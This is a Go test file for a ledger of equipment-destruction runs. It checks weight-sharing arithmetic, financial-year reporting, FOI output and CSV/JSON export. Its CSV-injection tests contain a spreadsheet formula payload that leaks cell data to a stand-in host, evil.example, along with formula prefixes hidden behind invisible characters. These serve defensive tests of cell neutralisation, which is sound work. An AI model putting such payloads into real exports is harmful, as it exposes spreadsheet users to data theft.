package ledger

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// runsGross are the weighed outputs of the runs in testdata/foi/runs.csv.
var runsGross = map[string]int64{"RUN-A": 1001, "RUN-B": 500, "RUN-D": 300, "RUN-E": 70, "RUN-F": 2, "RUN-G": 1000}

// runsLedger builds a small ledger of destruction runs covering every case
// of WeightRule and the 31 March / 1 April boundary.
func runsLedger(t testing.TB) *Store {
	t.Helper()
	s := mustOpen(t)
	if err := s.Init("Test Constabulary"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.AddContractor(foiContractors[0]); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"../testdata/foi/runs.csv", "../testdata/foi/extra.csv"} {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		// The weights are chosen for the weight rule's arithmetic (a 600 g
		// server), not plausibility.
		if _, err := s.Import(f, bytes.NewReader(data), ImportOptions{AllowUnusualWeight: true}); err != nil {
			t.Fatal(err)
		}
	}
	for _, ref := range sortedKeys(runsGross) {
		g := runsGross[ref]
		if _, err := s.CloseBatchOpts(ref, &g, RecordOptions{AllowUnusualWeight: true}); err != nil {
			t.Fatal(err)
		}
	}
	return s
}

func exportRows(t testing.TB, s *Store, q ExportQuery) map[string]ExportRow {
	t.Helper()
	out := map[string]ExportRow{}
	if err := s.Export(q, func(r *ExportRow) error { out[r.Serial] = *r; return nil }); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestWeightRule shows the batch weight rule item by item.
func TestWeightRule(t *testing.T) {
	s := runsLedger(t)
	rows := exportRows(t, s, ExportQuery{})
	for _, tc := range []struct {
		serial, source string
		grams          int64 // -1: no weight
	}{
		{"A-3", "item", 100},  // own weight
		{"A-1", "batch", 451}, // 1001 - 100 = 901 shared by 2: A-1 first by serial takes the spare gram
		{"A-2", "batch", 450},
		{"B-1", "item", 600},  // the run weighed 500 g, less than B-1 alone:
		{"B-2", "", -1},       // nothing is left to share
		{"C-1", "", -1},       // run never weighed
		{"D-1", "batch", 300}, // D-2, degaussed in RUN-D, was incinerated in RUN-E: D-1 is RUN-D's only final item
		{"D-2", "batch", 70},
		{"F-1", "batch", 1}, // 2 g among 3 items
		{"F-2", "batch", 1},
		{"F-3", "batch", 0},
		{"G-1", "batch", 500}, // one run across 31 March / 1 April
		{"G-2", "batch", 500},
		{"W-1", "item", 1750},
		{"W-2", "", -1},
	} {
		r, ok := rows[tc.serial]
		if !ok {
			t.Errorf("%s not exported", tc.serial)
			continue
		}
		got := int64(-1)
		if r.WeightG != nil {
			got = *r.WeightG
		}
		if got != tc.grams || r.WeightSource != tc.source {
			t.Errorf("%s: %d g from %q, want %d g from %q", tc.serial, got, r.WeightSource, tc.grams, tc.source)
		}
	}
	// A weighed run with items to share its weight counts its gross
	// weight exactly once.
	for ref, g := range map[string]int64{"RUN-A": 1001, "RUN-D": 300, "RUN-E": 70, "RUN-F": 2, "RUN-G": 1000} {
		var sum int64
		for _, r := range rows {
			if r.Batch == ref && r.WeightG != nil {
				sum += *r.WeightG
			}
		}
		if sum != g {
			t.Errorf("%s: items sum to %d g, gross weight %d g", ref, sum, g)
		}
	}
	// The report counts the same weights.
	rep, err := s.Report(ReportQuery{Years: []int{2021}})
	if err != nil {
		t.Fatal(err)
	}
	var want ExportSummary
	for _, r := range rows {
		if r.Year == 2021 {
			want.Rows++
			if r.WeightG != nil {
				want.WeightG += *r.WeightG
				want.WeighedRows++
			}
			if r.WeightSource == "batch" {
				want.BatchWeighed++
			}
		}
	}
	if len(rep) != 1 || rep[0].Count != want.Rows || rep[0].WeightG != want.WeightG || rep[0].WeighedCount != want.WeighedRows ||
		rep[0].BatchWeighedCount != want.BatchWeighed {
		t.Errorf("report %+v, export rows %+v", rep, want)
	}
}

// TestExport_SumEqualsReport: for any choice of years, calendar or
// financial, the export's rows and weights equal the report's totals.
func TestExport_SumEqualsReport(t *testing.T) {
	s := foiLedger(t)
	for _, q := range []ExportQuery{
		{}, {Years: []int{2020}}, {Years: []int{2021}}, {Years: []int{2020, 2021}}, {Years: []int{2019}},
		{FinancialYear: true}, {Years: []int{2019}, FinancialYear: true}, {Years: []int{2020}, FinancialYear: true}, {Years: []int{2021}, FinancialYear: true},
	} {
		t.Run(fmt.Sprintf("%v/financial=%v", q.Years, q.FinancialYear), func(t *testing.T) {
			rep, err := s.Report(ReportQuery{Years: q.Years, FinancialYear: q.FinancialYear, By: []string{"type", "method"}})
			if err != nil {
				t.Fatal(err)
			}
			var want ExportSummary
			for _, r := range rep {
				want.Rows += r.Count
				want.WeightG += r.WeightG
				want.WeighedRows += r.WeighedCount
				want.BatchWeighed += r.BatchWeighedCount
			}
			for _, format := range []string{"csv", "json"} {
				var b bytes.Buffer
				got, err := s.WriteExport(&b, q, ExportOptions{Format: format})
				if err != nil {
					t.Fatal(err)
				}
				if got != want {
					t.Errorf("%s export totals %+v, report %+v", format, got, want)
				}
				// And the file itself adds up: parse it and sum.
				var parsed ExportSummary
				if format == "csv" {
					recs, err := csv.NewReader(&b).ReadAll()
					if err != nil {
						t.Fatal(err)
					}
					for _, rec := range recs[1:] {
						parsed.Rows++
						if rec[17] != "" {
							g, _ := strconv.ParseInt(rec[17], 10, 64)
							parsed.WeightG += g
							parsed.WeighedRows++
						}
						if rec[18] == "batch" {
							parsed.BatchWeighed++
						}
					}
				} else {
					var rows []ExportRow
					if err := json.Unmarshal(b.Bytes(), &rows); err != nil {
						t.Fatalf("%v\n%s", err, b.String())
					}
					for _, r := range rows {
						parsed.Rows++
						if r.WeightG != nil {
							parsed.WeightG += *r.WeightG
							parsed.WeighedRows++
						}
						if r.WeightSource == "batch" {
							parsed.BatchWeighed++
						}
					}
				}
				if parsed != want {
					t.Errorf("%s file sums to %+v, report %+v", format, parsed, want)
				}
			}
		})
	}
}

// TestFinancialYearBoundary: 31 March 2021 is in 2020/21 and 1 April 2021
// in 2021/22, in the report, the FOI answer and the export alike.
func TestFinancialYearBoundary(t *testing.T) {
	s := runsLedger(t)
	// On 31 March: G-1 (run share 500 g), W-1 (1750 g), FY-0331 (650 g).
	// On 1 April: G-2 (500 g), W-2 (none), FY-0401 (none).
	for _, tc := range []struct {
		year    int
		serials string
		items   int64
		grams   int64
		weighed int64
	}{
		{2020, "FY-0331,G-1,W-1", 3, 2900, 3},
	} {
		rep, err := s.Report(ReportQuery{Years: []int{tc.year}, FinancialYear: true})
		if err != nil {
			t.Fatal(err)
		}
		if len(rep) != 1 || rep[0].YearLabel() != "2020/21" || rep[0].Count != tc.items || rep[0].WeightG != tc.grams || rep[0].WeighedCount != tc.weighed {
			t.Errorf("report 2020/21: %+v", rep)
		}
		rows := exportRows(t, s, ExportQuery{Years: []int{tc.year}, FinancialYear: true})
		var serials []string
		for _, k := range sortedKeys(rows) {
			serials = append(serials, k)
			if rows[k].FinancialYear != "2020/21" || rows[k].DisposedOn != "2021-03-31" {
				t.Errorf("%s: financial year %s, disposed on %s", k, rows[k].FinancialYear, rows[k].DisposedOn)
			}
		}
		if strings.Join(serials, ",") != tc.serials {
			t.Errorf("export 2020/21: %v, want %s", serials, tc.serials)
		}
	}
	next := exportRows(t, s, ExportQuery{Years: []int{2021}, FinancialYear: true})
	for _, serial := range []string{"FY-0401", "G-2", "W-2"} {
		if r, ok := next[serial]; !ok || r.FinancialYear != "2021/22" || r.Year != 2021 {
			t.Errorf("%s not in 2021/22: %+v", serial, r)
		}
	}
	for _, serial := range []string{"FY-0331", "G-1", "W-1"} {
		if _, ok := next[serial]; ok {
			t.Errorf("%s (31 March) exported in 2021/22", serial)
		}
	}
	// In calendar years both days are 2021.
	cal := exportRows(t, s, ExportQuery{Years: []int{2021}})
	if _, ok := cal["FY-0331"]; !ok {
		t.Error("31 March 2021 missing from calendar 2021")
	}
	a, err := s.FOI(FOIQuery{Years: []int{2020, 2021}, FinancialYear: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Years) != 2 || a.Label(a.Years[0].Year) != "2020/21" || a.Years[0].AllDisposed != (Tally{3, 2900, 3, 1}) {
		t.Errorf("FOI 2020/21: %+v", a.Years)
	}
	// Storage destroyed on 31 March: FY-0331 (hdd, shred, 650 g) and G-1.
	if got := a.Years[0].StorageDestroyed; got != (Tally{2, 1150, 2, 1}) {
		t.Errorf("FOI 2020/21 storage destroyed %+v", got)
	}
	text := string(foiOutput(t, a, "text"))
	if !strings.Contains(text, "Financial years 2020/21 and 2021/22") || !strings.Contains(text, "\n2020/21\n") {
		t.Errorf("FOI text lacks the financial years:\n%s", text)
	}
}

func TestExport_Golden(t *testing.T) {
	s := runsLedger(t)
	for _, tc := range []struct {
		name string
		q    ExportQuery
		opts ExportOptions
	}{
		{"runs.csv", ExportQuery{}, ExportOptions{Format: "csv"}},
		{"runs.json", ExportQuery{}, ExportOptions{Format: "json"}},
		{"runs-excel.csv", ExportQuery{}, ExportOptions{Format: "csv", Excel: true}},
		{"financial-2020.csv", ExportQuery{Years: []int{2020}, FinancialYear: true}, ExportOptions{}},
		{"empty.json", ExportQuery{Years: []int{1999}}, ExportOptions{Format: "json"}},
		{"empty.csv", ExportQuery{Years: []int{1999}}, ExportOptions{Format: "csv"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var b bytes.Buffer
			if _, err := s.WriteExport(&b, tc.q, tc.opts); err != nil {
				t.Fatal(err)
			}
			checkGolden(t, "export/"+tc.name, stableUUIDs(b.Bytes()))
		})
	}
}

func TestExport_Format(t *testing.T) {
	s := runsLedger(t)
	var b bytes.Buffer
	if _, err := s.WriteExport(&b, ExportQuery{}, ExportOptions{Format: "csv"}); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if !strings.HasPrefix(out, strings.Join(ExportColumns, ",")+"\r\n") {
		t.Errorf("header: %q", strings.SplitN(out, "\n", 2)[0])
	}
	// Every record ends with CRLF; the only bare LF is inside the quoted
	// two-line note, kept exactly as recorded.
	if n := strings.Count(out, "\n") - strings.Count(out, "\r\n"); n != 1 || !strings.Contains(out, "\"two\nlines\"") {
		t.Errorf("%d bare LFs; the two-line note is not kept as it is:\n%s", n, out)
	}
	if !strings.Contains(out, `"first day of 2021/22, ""quoted"""`) {
		t.Error("a note with a comma and quotes is not quoted as RFC 4180 says")
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if len(r) != len(ExportColumns) {
			t.Fatalf("record of %d fields", len(r))
		}
	}
	// Excel: BOM, and formula-like cells start with '.
	b.Reset()
	if _, err := s.WriteExport(&b, ExportQuery{}, ExportOptions{Excel: true}); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(b.String(), "\ufeffserial,") {
		t.Errorf("no BOM: %q", b.String()[:10])
	}
	for _, want := range []string{"'=HYPERLINK(1),'+44 20,", ",'@ops,'-,"} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("excel export lacks %q", want)
		}
	}
	if strings.Contains(b.String(), ",=") {
		t.Error("a cell starts with =")
	}
	for _, tc := range []ExportOptions{{Format: "xml"}, {Format: "json", Excel: true}} {
		if _, err := s.WriteExport(&b, ExportQuery{}, tc); !errors.Is(err, ErrInvalid) {
			t.Errorf("%+v: %v, want ErrInvalid", tc, err)
		}
	}
}

func TestCSVWriter(t *testing.T) {
	for _, tc := range []struct {
		in   []string
		want string
	}{
		{[]string{"a", "", "b c"}, "a,,b c\r\n"},
		{[]string{"a,b", `say "hi"`, "x\ny", "cr\r"}, "\"a,b\",\"say \"\"hi\"\"\",\"x\ny\",\"cr\r\"\r\n"},
		// Formula cells are neutralised in every CSV.
		{[]string{"=1+2", "+1", "-1", "@x", "\tx", "\rx", "a=b", "é"}, "'=1+2,'+1,'-1,'@x,'\tx,\"'\rx\",a=b,é\r\n"},
		{[]string{`=HYPERLINK("http://x","y")`}, `"'=HYPERLINK(""http://x"",""y"")"` + "\r\n"},
	} {
		var b bytes.Buffer
		w := &csvWriter{w: &b}
		w.record(tc.in)
		if b.String() != tc.want || w.err != nil {
			t.Errorf("%q: %q, want %q", tc.in, b.String(), tc.want)
		}
	}
}

// TestCSV_FormulaCellsNeutralised: a value that a spreadsheet would run
// as a formula, imported from a CSV, comes out neutralised in the export,
// FOI and report CSVs, and unaltered in JSON.
func TestCSV_FormulaCellsNeutralised(t *testing.T) {
	s := mustOpen(t)
	const evil = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	data := header + "F1,,hdd,\";=1+1\",\u200b=1+1,,\"" + strings.ReplaceAll(evil, `"`, `""`) + `",shred,"@SUM(1)",,yes,"+Acme",2021-01-05,0.6,,"-op",,"=1+2"` + "\n"
	if _, err := importString(s, "f.csv", data); err != nil {
		t.Fatal(err)
	}
	var exp, foi, rep, js bytes.Buffer
	if _, err := s.WriteExport(&exp, ExportQuery{}, ExportOptions{Format: "csv"}); err != nil {
		t.Fatal(err)
	}
	if _, err := s.WriteExport(&js, ExportQuery{}, ExportOptions{Format: "json"}); err != nil {
		t.Fatal(err)
	}
	rows, err := s.Report(ReportQuery{By: []string{"contractor", "site"}})
	if err != nil {
		t.Fatal(err)
	}
	if err := WriteReport(&rep, "csv", []string{"contractor", "site"}, rows); err != nil {
		t.Fatal(err)
	}
	ans, err := s.FOI(FOIQuery{Years: []int{2021}})
	if err != nil {
		t.Fatal(err)
	}
	if err := WriteFOI(&foi, "csv", ans); err != nil {
		t.Fatal(err)
	}
	// Hidden behind a zero-width space, or after a ; (a separator in
	// European-locale Excel): quoted and neutralised.
	for _, want := range []string{",\"';=1+1\",", ",'\u200b=1+1,"} {
		if !strings.Contains(exp.String(), want) {
			t.Errorf("export does not hold %q:\n%s", want, exp.String())
		}
	}
	for name, out := range map[string]string{"export": exp.String(), "report": rep.String(), "foi": foi.String()} {
		for _, cell := range strings.FieldsFunc(out, func(r rune) bool { return r == ',' || r == '\n' }) {
			cell = strings.TrimPrefix(strings.TrimSpace(cell), `"`)
			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
				t.Errorf("%s CSV has a live formula cell %q:\n%s", name, cell, out)
			}
		}
	}
	if !strings.Contains(js.String(), `"site":"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"`) {
		t.Errorf("JSON export altered the value:\n%s", js.String())
	}
}

func TestDataAsOf(t *testing.T) {
	s := runsLedger(t)
	before, err := s.DataAsOf()
	if err != nil || before.IsZero() {
		t.Fatal(before, err)
	}
	// Consultations do not move it; a change does.
	if err := s.LogAccess("report", "report", "test", nil); err != nil {
		t.Fatal(err)
	}
	if after, _ := s.DataAsOf(); !after.Equal(before) {
		t.Errorf("DataAsOf moved from %v to %v after a consultation", before, after)
	}
	if _, err := s.AddBatch(Batch{Ref: "LATE"}); err != nil {
		t.Fatal(err)
	}
	if after, _ := s.DataAsOf(); !after.After(before) {
		t.Errorf("DataAsOf did not move after a change: %v", after)
	}
	if empty, err := mustOpen(t).DataAsOf(); err != nil || !empty.IsZero() {
		t.Errorf("empty ledger: %v, %v", empty, err)
	}
}

// TestNeutraliseCell: formula prefixes hidden behind white space or
// invisible characters, or after a ; (a separator in European-locale
// Excel), are neutralised; controls are escaped.
func TestNeutraliseCell(t *testing.T) {
	for _, tc := range []struct{ in, cell, csv string }{
		{"=1+1", "'=1+1", "'=1+1"},
		{"\u200b=1+1", "'\u200b=1+1", "'\u200b=1+1"},
		{" =1+1", "' =1+1", "' =1+1"},
		{"\u00a0+1", "'\u00a0+1", "'\u00a0+1"},
		{"\u3000-1", "'\u3000-1", "'\u3000-1"},
		{"\ufeff@SUM(A1)", "'\ufeff@SUM(A1)", "'\ufeff@SUM(A1)"},
		{"\u00ad\u2060\u2064\u180e=1", "'\u00ad\u2060\u2064\u180e=1", "'\u00ad\u2060\u2064\u180e=1"},
		{"\u200e=1", "\\u200e=1", "\\u200e=1"}, // escaped: starts with a backslash
		{";=1+1", "';=1+1", `"';=1+1"`},
		{"a; @x", "'a; @x", `"'a; @x"`},
		{"a;b", "a;b", `"a;b"`},
		{"\tx", "'\tx", "'\tx"},
		{"SN\u202e1", "SN\\u202e1", "SN\\u202e1"},
		{"note\x1b[2J", "note\\x1b[2J", "note\\x1b[2J"},
		{"WD-123", "WD-123", "WD-123"},
		{"a-b", "a-b", "a-b"},
		{"", "", ""},
	} {
		if got := NeutraliseCell(tc.in); got != tc.cell {
			t.Errorf("NeutraliseCell(%q) = %q, want %q", tc.in, got, tc.cell)
		}
		var buf bytes.Buffer
		(&csvWriter{w: &buf}).record([]string{tc.in})
		if got := strings.TrimSuffix(buf.String(), "\r\n"); got != tc.csv {
			t.Errorf("CSV cell for %q = %q, want %q", tc.in, got, tc.csv)
		}
	}
}

// FuzzCSVWriter: a record without CR reads back exactly with encoding/csv
// (which turns CRLF inside quotes into LF, so CR is left out), and every
// line of the output ends with CRLF outside quotes.
func FuzzCSVWriter(f *testing.F) {
	f.Add("a", "b,c", `"q"`, "x\ny")
	f.Add("", " lead", "=1", "é\u00a0")
	f.Add("\u200b=1+1", ";=1+1", "\u00a0@SUM(A1)", "\ufeff-2")
	f.Add("a;b", "x; +cmd", "\u202e=1", "\x1b[31mred")
	f.Add("\u2060\u00ad=1", "\u3000+1", "\u180e@x", "ok;\u200f=2")
	f.Fuzz(func(t *testing.T, a, b, c, d string) {
		rec := []string{a, b, c, d}
		for _, v := range rec {
			if strings.ContainsRune(v, '\r') || !utf8.ValidString(v) {
				return
			}
		}
		var buf bytes.Buffer
		w := &csvWriter{w: &buf}
		w.record(rec)
		if !strings.HasSuffix(buf.String(), "\r\n") {
			t.Fatalf("%q does not end with CRLF", buf.String())
		}
		r := csv.NewReader(&buf)
		r.LazyQuotes = false
		got, err := r.Read()
		if err != nil {
			t.Fatalf("%q: %v", rec, err)
		}
		// What a reader gets back is each value as written, neutralised.
		want := make([]string, len(rec))
		for i, v := range rec {
			want[i] = NeutraliseCell(v)
		}
		if strings.Join(got, "\x00") != strings.Join(want, "\x00") {
			t.Errorf("wrote %q, read %q, want %q", rec, got, want)
		}
		// No cell, nor part of one after a ;, starts a formula, and no
		// control but TAB, CR and LF, nor bidi control, is left.
		for _, cell := range got {
			for _, part := range strings.Split(cell, ";") {
				if formulaAfterInvisibles(part) && !strings.HasPrefix(cell, "'") {
					t.Errorf("cell %q (from %q) starts a formula", cell, rec)
				}
			}
			for _, r := range cell {
				if isUnsafeRune(r) && r != '\t' && r != '\n' {
					t.Errorf("cell %q (from %q) holds %U", cell, rec, r)
				}
			}
		}
	})
}
